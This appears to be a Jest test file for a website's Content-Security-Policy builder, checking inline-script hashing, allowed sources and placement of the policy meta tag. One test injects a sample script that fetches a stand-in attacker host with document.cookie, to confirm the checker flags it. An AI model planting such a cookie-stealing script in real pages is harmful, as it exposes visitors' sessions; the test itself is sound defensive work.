/**
 * @jest-environment node
 */
import { createHash } from 'node:crypto';
import { hashSource, inlineScriptsOf, pagePolicyOf, withPagePolicy } from '../../../src/node/hosts/page-policy';
import { parsePolicy, type SiteSources } from '../../../src/node/hosts/security-headers';
import { compileInlineScripts } from '../../../src/node/webpack/inline-scripts';

const SOURCES: SiteSources = { mapOrigin: 'https://www.openstreetmap.org', emailOrigin: 'https://api.emailjs.com' };
const OWN = compileInlineScripts();

/** A page as the build writes it: every kind of inline script the site has, and data blocks. */
const PAGE = [
  '<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/><meta name="viewport" content="width=device-width"/>',
  '<script type="application/ld+json">{"@type":"WebSite"}</script>',
  '<style data-href="/app.css">body{margin:0}</style><noscript><style>.x{opacity:1}</style></noscript>',
  `<script>${OWN.markScripted}</script>`,
  '</head><body><div id="___gatsby"><main style="height:250px">Hi</main></div>',
  `<script>${OWN.entrances}</script>`,
  '<script id="gatsby-script-loader">/*<![CDATA[*/window.pagePath="/";/*]]>*/</script>',
  `<script data-scripts="[&quot;/app-1.js&quot;]">${OWN.loadScripts}</script>`,
  '</body></html>',
].join('');

const directive = (policy: string, name: string) => parsePolicy(policy)[name];

test('a hash is the base64 SHA-256 of the text as the browser reads it', () => {
  const expected = createHash('sha256').update('alert(1)\nx').digest('base64');
  expect(hashSource('alert(1)\nx')).toBe(`'sha256-${expected}'`);
  expect(hashSource('alert(1)\r\nx')).toBe(`'sha256-${expected}'`);
  expect(hashSource('')).toBe("'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='");
});

test('every inline script the site has is known, and gets its hash; data blocks and files do not', () => {
  const scripts = inlineScriptsOf(`${PAGE}<script src="/app.js"></script><script type="application/json">{}</script>`);
  expect(scripts).toHaveLength(4);
  const { policy, problems } = pagePolicyOf(PAGE, SOURCES);
  expect(problems).toEqual([]);
  expect(directive(policy, 'script-src')).toEqual(["'self'", ...scripts.map((script) => hashSource(script.text))]);
  expect(directive(policy, 'script-src')).not.toContain(hashSource('{"@type":"WebSite"}'));
});

test('the policy allows exactly what the site uses', () => {
  const { policy } = pagePolicyOf(PAGE, SOURCES);
  expect(directive(policy, 'default-src')).toEqual(["'none'"]);
  expect(directive(policy, 'style-src')).toEqual(["'self'", hashSource('body{margin:0}'), hashSource('.x{opacity:1}')]);
  expect(directive(policy, 'style-src-attr')).toEqual(["'unsafe-inline'"]);
  expect(directive(policy, 'connect-src')).toEqual(["'self'", 'https://api.emailjs.com']);
  expect(directive(policy, 'frame-src')).toEqual(['https://www.openstreetmap.org']);
  expect(directive(policy, 'img-src')).toEqual(["'self'"]);
  expect(directive(policy, 'object-src')).toEqual(["'none'"]);
  expect(directive(policy, 'frame-ancestors')).toBeUndefined();
  expect(policy).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline/);
  expect(directive(pagePolicyOf(PAGE, { ...SOURCES, emailOrigin: null }).policy, 'connect-src')).toEqual(["'self'"]);
});

test('an inline script of no known kind, or an inline handler, is a problem quoting it', () => {
  const injected = PAGE.replace('</body>', '<script>fetch("https://evil.example/"+document.cookie)</script></body>');
  expect(pagePolicyOf(injected, SOURCES).problems).toEqual(['an inline script of no known kind: <script>fetch("https://evil.example/"+document.cookie)…']);
  const handler = PAGE.replace('<main ', '<main onclick="go()" ');
  expect(pagePolicyOf(handler, SOURCES).problems).toEqual(['inline code no hash can allow: <main onclick=']);
  // A changed loader is not the loader any more.
  expect(pagePolicyOf(PAGE.replace(OWN.loadScripts, '(function(){})()'), SOURCES).problems).toHaveLength(1);
});

test('the policy goes right after the charset, before every script, and replaces an earlier one', () => {
  const once = withPagePolicy(PAGE, "default-src 'none'") ?? '';
  expect(once.indexOf('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'"/>')).toBe(once.indexOf('<meta charSet="utf-8"/>') + 23);
  const twice = withPagePolicy(once, "default-src 'self'") ?? '';
  expect(twice.match(/Content-Security-Policy/g)).toHaveLength(1);
  expect(twice).toContain('content="default-src \'self\'"');
  expect(withPagePolicy(twice, "default-src 'self'")).toBe(twice);
  expect(withPagePolicy('<html><head></head></html>', "default-src 'none'")).toBeNull();
  // The policy's own text changes no hash: the page's policy is the same the second time.
  expect(pagePolicyOf(once, SOURCES).policy).toBe(pagePolicyOf(PAGE, SOURCES).policy);
});
